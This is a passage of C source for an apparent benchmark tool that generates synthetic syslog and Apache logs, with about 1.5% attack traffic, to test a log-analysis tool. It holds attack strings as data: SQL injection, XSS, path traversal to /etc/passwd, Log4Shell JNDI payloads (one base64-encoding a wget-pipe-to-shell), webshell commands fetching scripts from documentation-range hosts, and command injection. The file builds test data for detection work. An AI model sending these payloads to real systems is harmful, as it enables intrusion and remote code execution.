/* gen_corpus.c — the benchmark corpus, for bench/make_corpus.sh: syslog built
 * from the real Loghub OpenSSH and Linux templates, Apache combined access logs
 * with ~1.5% attacks, and the Loghub Apache error log, all with monotonically
 * increasing timestamps. Deterministic: same templates + seed + size give the
 * same bytes. A bench tool, not part of vigil; compiled on the fly (cc -O2).
 *
 * usage: gen_corpus LOGHUB_DIR OUTDIR SIZE_MB [SEED]
 *
 * Each template pass keeps the real message templates and their order; IPs,
 * users (except root), pids and hosts are renamed consistently *within* a pass,
 * so a brute-force run from one address stays one address, and differ from
 * pass to pass, so correlation state sees many distinct keys. */
#include <errno.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#define MAX_LINE 2048        /* longest template line kept; longer ones are skipped */
#define MAX_SLOTS 16         /* substitutions per template line */
#define MAX_TEMPLATES 100000 /* lines per template file */
#define OUTBUF (1u << 22)    /* output buffer per file */
#define TZ_OFFSET (7 * 3600) /* local time shown in the logs: UTC+7 (Vietnam) */

/* ---- reproducible random numbers (splitmix64) ---- */

typedef struct rng {
	uint64_t s;
} rng;

static uint64_t rng_next(rng *r)
{
	uint64_t z = (r->s += 0x9E3779B97F4A7C15ull);
	z = (z ^ (z >> 30)) * 0xBF58476D1CE4E5B9ull;
	z = (z ^ (z >> 27)) * 0x94D049BB133111EBull;
	return z ^ (z >> 31);
}

static uint32_t rng_below(rng *r, uint32_t n)
{
	return (uint32_t)(((rng_next(r) >> 32) * n) >> 32);
}

static uint64_t mix2(uint64_t a, uint64_t b)
{
	rng r = {a * 0x100000001B3ull ^ (b + 0x51ED270B7A1Full)};
	return rng_next(&r);
}

static uint64_t hash_str(const char *s, size_t n)
{
	uint64_t h = 0xCBF29CE484222325ull; /* FNV-1a */
	for (size_t i = 0; i < n; i++)
		h = (h ^ (unsigned char)s[i]) * 0x100000001B3ull;
	return h;
}

static _Noreturn void die(const char *what, const char *arg)
{
	fprintf(stderr, "gen_corpus: %s%s%s%s%s\n", what, arg ? ": " : "", arg ? arg : "", errno ? ": " : "",
		errno ? strerror(errno) : "");
	exit(1);
}

/* ---- buffered output ---- */

typedef struct out {
	FILE *f;
	const char *path;
	char *buf;
	size_t len;
	uint64_t bytes, lines, target;
} out;

static void out_open(out *o, const char *dir, const char *name, uint64_t target)
{
	static char paths[3][4096];
	static int n;
	char *p = paths[n++ % 3];
	if ((size_t)snprintf(p, 4096, "%s/%s", dir, name) >= 4096)
		die("path too long", dir);
	memset(o, 0, sizeof(*o));
	o->path = p;
	o->target = target;
	if ((o->f = fopen(p, "w")) == NULL || (o->buf = malloc(OUTBUF)) == NULL)
		die("cannot create", p);
}

static void out_flush(out *o)
{
	if (o->len > 0 && fwrite(o->buf, 1, o->len, o->f) != o->len)
		die("write", o->path);
	o->len = 0;
}

static void out_close(out *o)
{
	out_flush(o);
	if (fclose(o->f) != 0)
		die("close", o->path);
	free(o->buf);
}

static void put(out *o, const char *s, size_t n)
{
	if (o->len + n > OUTBUF)
		out_flush(o);
	memcpy(o->buf + o->len, s, n);
	o->len += n;
	o->bytes += n;
}

static void puts_(out *o, const char *s) { put(o, s, strlen(s)); }

static void putc_(out *o, char c) { put(o, &c, 1); }

static void putu(out *o, uint64_t v)
{
	char b[24];
	int i = 24;
	do {
		b[--i] = (char)('0' + v % 10);
		v /= 10;
	} while (v != 0);
	put(o, b + i, (size_t)(24 - i));
}

static void put2(out *o, unsigned v)
{
	char b[2] = {(char)('0' + v / 10 % 10), (char)('0' + v % 10)};
	put(o, b, 2);
}

static void put_ip(out *o, uint32_t ip)
{
	putu(o, ip >> 24);
	putc_(o, '.');
	putu(o, (ip >> 16) & 255);
	putc_(o, '.');
	putu(o, (ip >> 8) & 255);
	putc_(o, '.');
	putu(o, ip & 255);
}

static void endline(out *o)
{
	putc_(o, '\n');
	o->lines++;
}

static int full(const out *o) { return o->bytes >= o->target; }

/* ---- civil time (proleptic Gregorian, H. Hinnant's algorithm) ---- */

typedef struct civil {
	int y;
	unsigned mon, d, h, mi, s, wday; /* mon 1..12, wday 0 = Sunday */
} civil;

static const char *const MONTHS[12] = {"Jan", "Feb", "Mar", "Apr", "May", "Jun",
				       "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"};
static const char *const WDAYS[7] = {"Sun", "Mon", "Tue", "Wed", "Thu", "Fri", "Sat"};

static int64_t days_from_civil(int y, unsigned m, unsigned d)
{
	y -= m <= 2;
	const int64_t era = (y >= 0 ? y : y - 399) / 400;
	const unsigned yoe = (unsigned)(y - era * 400);
	const unsigned doy = (153 * (m + (m > 2 ? -3 : 9)) + 2) / 5 + d - 1;
	const unsigned doe = yoe * 365 + yoe / 4 - yoe / 100 + doy;
	return era * 146097 + (int64_t)doe - 719468;
}

static civil civil_from_secs(int64_t t)
{
	civil c;
	int64_t z = (t >= 0 ? t : t - 86399) / 86400;
	int64_t sod = t - z * 86400;
	c.wday = (unsigned)((z % 7 + 11) % 7); /* 1970-01-01 was a Thursday */
	c.h = (unsigned)(sod / 3600);
	c.mi = (unsigned)(sod / 60 % 60);
	c.s = (unsigned)(sod % 60);
	z += 719468;
	const int64_t era = (z >= 0 ? z : z - 146096) / 146097;
	const unsigned doe = (unsigned)(z - era * 146097);
	const unsigned yoe = (doe - doe / 1460 + doe / 36524 - doe / 146096) / 365;
	const unsigned doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
	const unsigned mp = (5 * doy + 2) / 153;
	c.d = doy - (153 * mp + 2) / 5 + 1;
	c.mon = mp < 10 ? mp + 3 : mp - 9;
	c.y = (int)(yoe + era * 400 + (c.mon <= 2));
	return c;
}

static void put_hms(out *o, const civil *c)
{
	put2(o, c->h);
	putc_(o, ':');
	put2(o, c->mi);
	putc_(o, ':');
	put2(o, c->s);
}

/* "Mar  1 00:00:07" (RFC 3164) */
static void put_ts_syslog(out *o, int64_t local)
{
	civil c = civil_from_secs(local);
	puts_(o, MONTHS[c.mon - 1]);
	putc_(o, ' ');
	if (c.d < 10)
		putc_(o, ' ');
	putu(o, c.d);
	putc_(o, ' ');
	put_hms(o, &c);
}

/* "[01/Mar/2024:00:00:07 +0700]" (Apache access) */
static void put_ts_access(out *o, int64_t local)
{
	civil c = civil_from_secs(local);
	putc_(o, '[');
	put2(o, c.d);
	putc_(o, '/');
	puts_(o, MONTHS[c.mon - 1]);
	putc_(o, '/');
	putu(o, (uint64_t)c.y);
	putc_(o, ':');
	put_hms(o, &c);
	puts_(o, " +0700]");
}

/* "[Fri Mar 01 00:00:07 2024]" (Apache error) */
static void put_ts_error(out *o, int64_t local)
{
	civil c = civil_from_secs(local);
	putc_(o, '[');
	puts_(o, WDAYS[c.wday]);
	putc_(o, ' ');
	puts_(o, MONTHS[c.mon - 1]);
	putc_(o, ' ');
	put2(o, c.d);
	putc_(o, ' ');
	put_hms(o, &c);
	putc_(o, ' ');
	putu(o, (uint64_t)c.y);
	putc_(o, ']');
}

/* ---- templates: a real line cut into literal text and substitution slots ---- */

enum slot_kind { SLOT_IP, SLOT_PID, SLOT_USER, SLOT_PORT };

typedef struct slot {
	uint16_t off, len; /* the original token in text */
	uint8_t kind;
	uint64_t val;      /* IPv4 address, pid, or hash of the user name */
} slot;

typedef struct tmpl {
	char *text;
	uint16_t len;
	uint16_t host_off, host_len; /* syslog: the host field */
	uint16_t body_off;           /* first byte after the timestamp (and host) */
	uint8_t nslots;
	slot slots[MAX_SLOTS];
} tmpl;

typedef struct tmpl_set {
	tmpl *t;
	size_t n, skipped;
} tmpl_set;

static int isdig(char c) { return c >= '0' && c <= '9'; }

static int isalnum_(char c) { return isdig(c) || (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z'); }

static void add_slot(tmpl *t, size_t off, size_t len, enum slot_kind k, uint64_t val)
{
	if (t->nslots < MAX_SLOTS)
		t->slots[t->nslots++] = (slot){(uint16_t)off, (uint16_t)len, (uint8_t)k, val};
}

/* A dotted quad at s[i] that is a whole token (not part of a version or a
 * host name such as 1.2.3.4.nw.example.net); length in *len. */
static int match_ipv4(const char *s, size_t n, size_t i, size_t *len, uint32_t *ip)
{
	if (i > 0 && (isalnum_(s[i - 1]) || s[i - 1] == '.' || s[i - 1] == '-'))
		return 0;
	size_t j = i;
	uint32_t v = 0;
	for (int part = 0; part < 4; part++) {
		unsigned oct = 0, nd = 0;
		while (j < n && isdig(s[j]) && nd < 4)
			oct = oct * 10 + (unsigned)(s[j++] - '0'), nd++;
		if (nd == 0 || nd > 3 || oct > 255)
			return 0;
		v = v << 8 | oct;
		if (part < 3) {
			if (j >= n || s[j] != '.')
				return 0;
			j++;
		}
	}
	if (j < n && (isalnum_(s[j]) || s[j] == '.' || s[j] == '-'))
		return 0;
	*len = j - i;
	*ip = v;
	return 1;
}

static size_t digits_at(const char *s, size_t n, size_t i, uint64_t *v)
{
	size_t j = i;
	*v = 0;
	while (j < n && isdig(s[j]) && j - i < 9)
		*v = *v * 10 + (uint64_t)(s[j++] - '0');
	return j - i;
}

static int prefix_at(const char *s, size_t n, size_t i, const char *p)
{
	size_t m = strlen(p);
	return i + m <= n && memcmp(s + i, p, m) == 0;
}

/* Slots in t->text[from..]: IPv4 addresses, the tag's [pid], "child N",
 * "port N" and user names after the contexts that name a login attempt. */
static void find_slots(tmpl *t, size_t from)
{
	static const char *const user_ctx[] = {"nvalid user ", " user=", "Failed password for ",
					       "Accepted password for ", "Accepted publickey for "};
	const char *s = t->text;
	size_t n = t->len, len;
	uint32_t ip;
	uint64_t v;
	int pid_done = 0;
	for (size_t i = from; i < n;) {
		if (!pid_done && s[i] == ':')
			pid_done = 1; /* only the tag's pid, before the first colon */
		if (!pid_done && s[i] == '[' && (len = digits_at(s, n, i + 1, &v)) > 0 && i + 1 + len < n &&
		    s[i + 1 + len] == ']') {
			add_slot(t, i + 1, len, SLOT_PID, v);
			pid_done = 1;
			i += len + 2;
			continue;
		}
		if (isdig(s[i]) && match_ipv4(s, n, i, &len, &ip)) {
			add_slot(t, i, len, SLOT_IP, ip);
			i += len;
			continue;
		}
		if (prefix_at(s, n, i, "child ") && (len = digits_at(s, n, i + 6, &v)) > 0) {
			add_slot(t, i + 6, len, SLOT_PID, v);
			i += 6 + len;
			continue;
		}
		if (prefix_at(s, n, i, "port ") && (len = digits_at(s, n, i + 5, &v)) > 0) {
			add_slot(t, i + 5, len, SLOT_PORT, v);
			i += 5 + len;
			continue;
		}
		size_t k;
		for (k = 0; k < sizeof(user_ctx) / sizeof(user_ctx[0]); k++)
			if (prefix_at(s, n, i, user_ctx[k]))
				break;
		if (k < sizeof(user_ctx) / sizeof(user_ctx[0])) {
			size_t u = i + strlen(user_ctx[k]), e = u;
			while (e < n && s[e] != ' ')
				e++;
			if (prefix_at(s, n, u, "invalid ")) { /* "for invalid user X": the next context */
				i++;
				continue;
			}
			if (e > u && !(e - u == 4 && memcmp(s + u, "root", 4) == 0))
				add_slot(t, u, e - u, SLOT_USER, hash_str(s + u, e - u));
			i = e > u ? e : u;
			continue;
		}
		i++;
	}
}

enum tmpl_kind { TMPL_SYSLOG, TMPL_APACHE_ERROR };

static void load_templates(tmpl_set *set, const char *dir, const char *name, enum tmpl_kind kind)
{
	char path[4096], line[MAX_LINE + 2];
	if ((size_t)snprintf(path, sizeof(path), "%s/%s", dir, name) >= sizeof(path))
		die("path too long", dir);
	FILE *f = fopen(path, "r");
	if (f == NULL)
		die("cannot read", path);
	memset(set, 0, sizeof(*set));
	if ((set->t = calloc(MAX_TEMPLATES, sizeof(*set->t))) == NULL)
		die("out of memory", NULL);
	while (fgets(line, sizeof(line), f) != NULL && set->n < MAX_TEMPLATES) {
		size_t n = strlen(line);
		if (n > 0 && line[n - 1] != '\n' && !feof(f)) { /* too long: drop the rest */
			int c;
			while ((c = fgetc(f)) != EOF && c != '\n')
				;
			set->skipped++;
			continue;
		}
		while (n > 0 && (line[n - 1] == '\n' || line[n - 1] == '\r'))
			n--;
		tmpl t = {0};
		t.len = (uint16_t)n;
		if (kind == TMPL_SYSLOG) { /* "Mmm dd HH:MM:SS host rest" */
			if (n < 18 || line[3] != ' ' || line[6] != ' ' || line[9] != ':' || line[12] != ':' || line[15] != ' ') {
				set->skipped++;
				continue;
			}
			size_t h = 16, e = 16;
			while (e < n && line[e] != ' ')
				e++;
			if (e == h || e >= n) {
				set->skipped++;
				continue;
			}
			t.host_off = (uint16_t)h;
			t.host_len = (uint16_t)(e - h);
			t.body_off = (uint16_t)(e + 1);
		} else { /* "[Www Mmm dd HH:MM:SS yyyy] rest" */
			if (n < 28 || line[0] != '[' || line[25] != ']' || line[26] != ' ') {
				set->skipped++;
				continue;
			}
			t.body_off = 27;
		}
		if ((t.text = malloc(n + 1)) == NULL)
			die("out of memory", NULL);
		memcpy(t.text, line, n);
		t.text[n] = '\0';
		find_slots(&t, t.body_off);
		set->t[set->n++] = t;
	}
	if (ferror(f))
		die("read", path);
	fclose(f);
	if (set->n == 0)
		die("no usable template lines in", path);
}

/* ---- renaming per pass (pass 0 keeps the originals) ---- */

static const char *const USERS[] = {
	"admin", "test", "user", "oracle", "postgres", "ubuntu", "git", "guest", "ftpuser", "support",
	"pi", "mysql", "deploy", "jenkins", "www-data", "nagios", "hadoop", "tomcat", "minecraft", "dev",
	"backup", "operator", "ansible", "vagrant", "centos", "ec2-user", "administrator", "webmaster", "info", "sales",
	"test1", "test2", "user1", "demo", "ftp", "apache", "nginx", "zabbix", "elastic", "kafka",
	"docker", "steam", "teamspeak", "ts3", "student", "linux", "server", "master", "uucp", "matlab",
	"inspur", "hdfs", "spark", "redis", "odoo", "ubnt", "default", "monitor", "service", "sysadmin"};
#define NUSERS (sizeof(USERS) / sizeof(USERS[0]))

static uint32_t public_ip(uint64_t h)
{
	uint32_t o1 = 1 + (uint32_t)(h % 223);
	if (o1 == 10 || o1 == 127 || o1 == 172 || o1 == 192)
		o1++;
	return o1 << 24 | (uint32_t)((h >> 16) & 0xFFFF) << 8 | (1 + (uint32_t)((h >> 40) % 254));
}

static void emit_body(out *o, const tmpl *t, uint64_t pass, rng *r)
{
	size_t at = t->body_off;
	for (unsigned i = 0; i < t->nslots; i++) {
		const slot *s = &t->slots[i];
		put(o, t->text + at, s->off - at);
		if (pass == 0 && s->kind != SLOT_PORT) {
			put(o, t->text + s->off, s->len);
		} else {
			switch (s->kind) {
			case SLOT_IP: put_ip(o, public_ip(mix2(s->val, pass))); break;
			case SLOT_PID: putu(o, 300 + (s->val + pass * 7919) % 32000); break;
			case SLOT_USER: puts_(o, USERS[mix2(s->val, pass) % NUSERS]); break;
			case SLOT_PORT: putu(o, 1024 + rng_below(r, 64511)); break;
			}
		}
		at = s->off + s->len;
	}
	put(o, t->text + at, t->len - at);
	endline(o);
}

static void emit_syslog(out *o, const tmpl *t, uint64_t pass, int64_t local, rng *r)
{
	put_ts_syslog(o, local);
	putc_(o, ' ');
	put(o, t->text + t->host_off, t->host_len);
	if (pass % 8 != 0)
		putu(o, pass % 8); /* eight hosts of each kind */
	putc_(o, ' ');
	emit_body(o, t, pass, r);
}

/* syslog.log: the OpenSSH and Linux templates interleaved, pass after pass. */
static void gen_syslog(out *o, const tmpl_set *a, const tmpl_set *b, int64_t start, rng *r)
{
	int64_t ms = start * 1000;
	for (uint64_t pass = 0; !full(o); pass++) {
		size_t ia = 0, ib = 0;
		while ((ia < a->n || ib < b->n) && !full(o)) {
			size_t ra = a->n - ia, rb = b->n - ib;
			const tmpl *t = rng_below(r, (uint32_t)(ra + rb)) < ra ? &a->t[ia++] : &b->t[ib++];
			ms += rng_below(r, 200);
			emit_syslog(o, t, pass, ms / 1000 + TZ_OFFSET, r);
		}
	}
}

/* apache_error.log: the Loghub Apache error templates, pass after pass. */
static void gen_apache_error(out *o, const tmpl_set *a, int64_t start, rng *r)
{
	int64_t ms = start * 1000;
	for (uint64_t pass = 0; !full(o); pass++) {
		for (size_t i = 0; i < a->n && !full(o); i++) {
			ms += rng_below(r, 400);
			put_ts_error(o, ms / 1000 + TZ_OFFSET);
			putc_(o, ' ');
			emit_body(o, &a->t[i], pass, r);
		}
	}
}

/* ---- access.log: a shop's traffic, with attack sessions mixed in ---- */

#define PICK(r, arr) ((arr)[rng_below((r), sizeof(arr) / sizeof((arr)[0]))])

static const char *const WORDS[] = {
	"laptop", "phone", "shoes", "ao-thun", "dien-thoai", "tai-nghe", "camera", "watch", "tablet", "keyboard",
	"mouse", "monitor", "charger", "backpack", "jacket", "sandals", "coffee", "tea", "rice-cooker", "fan",
	"printer", "router", "speaker", "sofa", "lamp", "book", "toys", "bike", "helmet", "sunscreen"};

static const char *const UAS[] = {
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36",
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/121.0.0.0 Safari/537.36",
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36 Edg/122.0.0.0",
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:123.0) Gecko/20100101 Firefox/123.0",
	"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.3 Safari/605.1.15",
	"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36",
	"Mozilla/5.0 (X11; Linux x86_64; rv:123.0) Gecko/20100101 Firefox/123.0",
	"Mozilla/5.0 (iPhone; CPU iPhone OS 17_3_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.3 Mobile/15E148 Safari/604.1",
	"Mozilla/5.0 (Linux; Android 14; SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.6261.64 Mobile Safari/537.36",
	"Mozilla/5.0 (Linux; Android 13; SAMSUNG SM-A546E) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/23.0 Chrome/115.0.0.0 Mobile Safari/537.36",
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) coc_coc_browser/123.0.212 Chrome/117.0.5938.212 Safari/537.36",
	"Mozilla/5.0 (Linux; Android 12; Redmi Note 11) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/121.0.6167.178 Mobile Safari/537.36",
	"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
	"Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
	"facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
	"Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)"};

static const char *const SCANNER_UAS[] = {
	"sqlmap/1.7.2#stable (https://sqlmap.org)",
	"Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000562)",
	"Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
	"gobuster/3.6",
	"WPScan v3.8.24 (https://wpscan.com/wordpress-security-scanner)",
	"Mozilla/5.0 zgrab/0.x",
	"Fuzz Faster U Fool v2.1.0-dev",
	"Wfuzz/3.1.0",
	"masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/74.0.3729.169 Safari/537.36 nuclei",
	"python-requests/2.31.0",
	"Go-http-client/1.1",
	"curl/8.4.0",
	"feroxbuster/2.10.1",
	"WhatWeb/0.5.5"};

static const char *const SQLI[] = {
	"/products/item?id={n}%27%20UNION%20SELECT%20username,password%20FROM%20users--",
	"/products/item?id=-{n}%20UNION%20ALL%20SELECT%20NULL,CONCAT(0x71786a7671,0x4a4b,0x7178767a71),NULL--%20-",
	"/category/list?cat={n}%20order%20by%2010--",
	"/search?q=test%27%20or%201=1#&page={n}",
	"/news.php?id={n}%20and%201=2%20union%20select%201,group_concat(table_name),3%20from%20information_schema.tables%20where%20table_schema=database()",
	"/login.php?user=admin%27%3D%271&pass=x&r={n}",
	"/products/item?id={n}%27%20AND%20(SELECT%201%20FROM%20(select%28sleep%2810%29))a)--",
	"/api/v1/products?sort=price&id={n};select%20version()",
	"/item.php?id={n}'+AND+'1'='1",
	"/report?year=2024&id={n}%20UNION%20SELECT%20@@version,2,3"};

static const char *const XSS[] = {
	"/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E&r={n}",
	"/search?q=<script>alert({n})</script>",
	"/comment?text=%3Csvg%20onload=alert({n})%3E",
	"/redirect?url=javascript:alert(document.domain)&r={n}",
	"/search?q=\\\"><img src=x onerror=alert({n})>",
	"/profile?name=%3Ciframe%20src=javascript%3Aalert({n})%3E",
	"/page?lang=en&title=%253Cscript%253Ealert({n})%253C/script%253E"};

static const char *const TRAVERSAL[] = {
	"/download.php?file=../../../etc/passwd&r={n}",
	"/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd?{n}",
	"/static/..%2f..%2f..%2f..%2fetc%2fshadow?v={n}",
	"/index.php?page=..%252f..%252f..%252fetc%252fpasswd&r={n}",
	"/view?template=....//....//....//etc/hosts&r={n}",
	"/file?path=..%c0%af..%c0%af..%c0%afetc%c0%afpasswd&r={n}",
	"/include.php?inc=../../../../windows/win.ini&r={n}",
	"/assets?f=%252e%252e%252fetc%252fpasswd&r={n}"};

static const char *const LOG4SHELL[] = {
	"${jndi:ldap://{h}:1389/Basic/Command/Base64/d2dldCBodHRwOi8vMTAuMC4wLjEvc2ggLU8tfHNo}",
	"${jndi:ldap://{h}:1389/TomcatBypass/Command/Base64/Y3VybCBodHRwOi8v}",
	"${jndi:rmi://{h}:1099/Exploit}",
	"${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://{h}/a}",
	"${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://{h}/poc}",
	"${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//{h}/x}",
	"${jndi:dns://{h}/callback}",
	"${${upper:j}ndi:ldaps://{h}/Deserialization/URLDNS/}",
	"%24%7Bjndi:ldap://{h}/Basic/ReverseShell/%7D"};

static const char *const WEBSHELL[] = {
	"/wp-content/uploads/2024/03/shell.php?cmd=whoami&r={n}",
	"/uploads/c99.php?act=ls&d=/var/www&r={n}",
	"/r57.php?{n}",
	"/images/cmd.jsp?cmd=id&r={n}",
	"/aspnet_client/system_web/shell.aspx?cmd=whoami&r={n}",
	"/tmp/x.php?c=wget+http://198.51.100.{n}/x.sh",
	"/wso.php?a=FilesMan&p1={n}",
	"/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php?{n}",
	"/admin/upload/b374k.php?cmd=curl+http://203.0.113.{n}/m",
	"/ui/cmd.php?exec=powershell+-enc+SQBFAFgA&r={n}"};

static const char *const PROBES[] = {
	"/.env", "/.git/config", "/phpmyadmin/index.php", "/wp-login.php", "/admin/", "/server-status",
	"/config.php.bak", "/backup.zip", "/.aws/credentials", "/actuator/env", "/cgi-bin/test.cgi",
	"/xmlrpc.php", "/.DS_Store", "/db.sql", "/owa/auth/logon.aspx", "/solr/admin/info/system",
	"/vendor/.env", "/api/.env", "/debug/default/view", "/HNAP1/", "/boaform/admin/formLogin", "/.svn/entries"};

static const char *const SSTI[] = {
	"/search?q={{7*7}}&r={n}",
	"/hello?name=${7*7}&r={n}",
	"/page?x=%7B%7Bconfig.__class__.__init__.__globals__%7D%7D&r={n}",
	"/template?t=<%={n}*7%>",
	"/run?cmd=whoami&r={n}",
	"/ping?host=127.0.0.1;cat+/etc/passwd&r={n}",
	"/exec?c=net+user&r={n}"};

enum attack { A_SQLI, A_XSS, A_TRAVERSAL, A_LOG4SHELL, A_WEBSHELL, A_SCAN, A_SSTI, A_COUNT };

typedef struct session {
	enum attack kind;
	uint32_t ip;
	const char *ua;
	unsigned left;
} session;

/* tpl with "{n}" replaced by v */
static void put_tpl(out *o, const char *tpl, unsigned v)
{
	const char *p = tpl, *q;
	while ((q = strchr(p, '{')) != NULL) {
		if (q[1] == 'n' && q[2] == '}') {
			put(o, p, (size_t)(q - p));
			putu(o, v);
			p = q + 3;
		} else {
			put(o, p, (size_t)(q + 1 - p));
			p = q + 1;
		}
	}
	puts_(o, p);
}

static void put_ref_or_dash(out *o, rng *r)
{
	uint32_t k = rng_below(r, 10);
	if (k < 4)
		puts_(o, "\"-\"");
	else if (k < 8) {
		puts_(o, "\"https://shop.example.vn/category/");
		puts_(o, PICK(r, WORDS));
		putc_(o, '"');
	} else {
		puts_(o, "\"https://www.google.com/search?q=");
		puts_(o, PICK(r, WORDS));
		putc_(o, '"');
	}
}

/* "IP - user [ts] \"" */
static void put_head(out *o, uint32_t ip, const char *user, int64_t local)
{
	put_ip(o, ip);
	puts_(o, " - ");
	puts_(o, user);
	putc_(o, ' ');
	put_ts_access(o, local);
	puts_(o, " \"");
}

/* "\" status size " */
static void put_status(out *o, unsigned status, unsigned size)
{
	puts_(o, " HTTP/1.1\" ");
	putu(o, status);
	putc_(o, ' ');
	if (size == 0)
		putc_(o, '-');
	else
		putu(o, size);
	putc_(o, ' ');
}

static void normal_request(out *o, rng *r, const uint32_t *clients, size_t nclients, int64_t local)
{
	/* skewed popularity: a few clients make most requests */
	uint32_t a = rng_below(r, (uint32_t)nclients), b = rng_below(r, (uint32_t)nclients);
	uint32_t ip = clients[(uint64_t)a * b / nclients];
	uint32_t k = rng_below(r, 100), id = 1 + rng_below(r, 20000), status = 200, size;
	const char *method = "GET";
	int asset = 0;
	put_head(o, ip, k < 3 ? "khach" : "-", local);
	if (k < 35) {
		static const char *const assets[] = {"/static/css/site.min.css?v={n}", "/static/js/app.{n}.js",
						     "/images/products/{n}.jpg", "/images/banners/sale-{n}.webp",
						     "/fonts/roboto-regular.woff2?v={n}", "/favicon.ico?{n}"};
		asset = 1;
		puts_(o, method);
		putc_(o, ' ');
		put_tpl(o, PICK(r, assets), id % 500);
	} else if (k < 80) {
		uint32_t p = rng_below(r, 10);
		puts_(o, method);
		putc_(o, ' ');
		switch (p) {
		case 0: puts_(o, "/"); break;
		case 1: put_tpl(o, "/products/{n}", id); break;
		case 2:
			puts_(o, "/category/");
			puts_(o, PICK(r, WORDS));
			put_tpl(o, "?page={n}", 1 + id % 12);
			break;
		case 3:
			puts_(o, "/search?q=");
			puts_(o, PICK(r, WORDS));
			puts_(o, "+");
			puts_(o, PICK(r, WORDS));
			break;
		case 4:
			puts_(o, "/blog/2024/");
			put2(o, 1 + id % 12);
			putc_(o, '/');
			puts_(o, PICK(r, WORDS));
			puts_(o, "-review");
			break;
		case 5: puts_(o, "/cart"); break;
		case 6: put_tpl(o, "/account/orders?id={n}", id * 7); break;
		case 7: puts_(o, id % 2 ? "/robots.txt" : "/sitemap.xml"); break;
		case 8: put_tpl(o, "/products/item?id={n}&ref=home", id); break;
		default: puts_(o, "/about"); break;
		}
	} else if (k < 95) {
		static const char *const api[] = {"/api/v1/products/{n}", "/api/v1/users/{n}/profile",
						  "/api/v2/recommendations?item={n}&limit=20", "/api/v1/stock?sku={n}"};
		puts_(o, method);
		putc_(o, ' ');
		put_tpl(o, PICK(r, api), id);
	} else {
		static const char *const posts[] = {"/login", "/api/v1/cart/items", "/checkout", "/api/v1/events",
						    "/newsletter/subscribe"};
		method = "POST";
		puts_(o, method);
		putc_(o, ' ');
		puts_(o, PICK(r, posts));
	}
	uint32_t s = rng_below(r, 1000);
	if (s < 70)
		status = 304;
	else if (s < 100)
		status = 404;
	else if (s < 125)
		status = 302;
	else if (s < 133)
		status = 500;
	else if (s < 140)
		status = 403;
	size = status == 304 || status == 302 ? 0 : (asset ? 2000 + rng_below(r, 250000) : 300 + rng_below(r, 60000));
	put_status(o, status, size);
	put_ref_or_dash(o, r);
	puts_(o, " \"");
	puts_(o, PICK(r, UAS));
	putc_(o, '"');
	endline(o);
}

static void new_session(session *ss, rng *r, const uint32_t *attackers, size_t nattackers)
{
	ss->kind = (enum attack)rng_below(r, A_COUNT);
	ss->ip = attackers[rng_below(r, (uint32_t)nattackers)];
	ss->left = 5 + rng_below(r, 36);
	if (ss->kind == A_SCAN || rng_below(r, 3) == 0)
		ss->ua = PICK(r, SCANNER_UAS);
	else
		ss->ua = PICK(r, UAS);
}

static void attack_request(out *o, rng *r, const session *ss, int64_t local)
{
	static const unsigned statuses[] = {200, 200, 200, 403, 404, 404, 500, 400, 301};
	unsigned v = 1 + rng_below(r, 9999);
	const char *ua = ss->ua, *ref = "-";
	char host[32], buf[MAX_LINE];
	put_head(o, ss->ip, "-", local);
	puts_(o, rng_below(r, 6) == 0 ? "POST " : "GET ");
	switch (ss->kind) {
	case A_SQLI: put_tpl(o, PICK(r, SQLI), v); break;
	case A_XSS: put_tpl(o, PICK(r, XSS), v); break;
	case A_TRAVERSAL: put_tpl(o, PICK(r, TRAVERSAL), v); break;
	case A_WEBSHELL: put_tpl(o, PICK(r, WEBSHELL), v % 255); break;
	case A_SSTI: put_tpl(o, PICK(r, SSTI), v); break;
	case A_SCAN: puts_(o, PICK(r, PROBES)); break;
	case A_LOG4SHELL: {
		snprintf(host, sizeof(host), "45.%u.%u.%u", 1 + v % 250, (v * 7) % 256, 1 + (v * 13) % 250);
		const char *tpl = PICK(r, LOG4SHELL), *h = strstr(tpl, "{h}");
		if (h == NULL)
			snprintf(buf, sizeof(buf), "%s", tpl);
		else
			snprintf(buf, sizeof(buf), "%.*s%s%s", (int)(h - tpl), tpl, host, h + 3);
		uint32_t where = rng_below(r, 3); /* path, User-Agent or Referer */
		if (where == 0) {
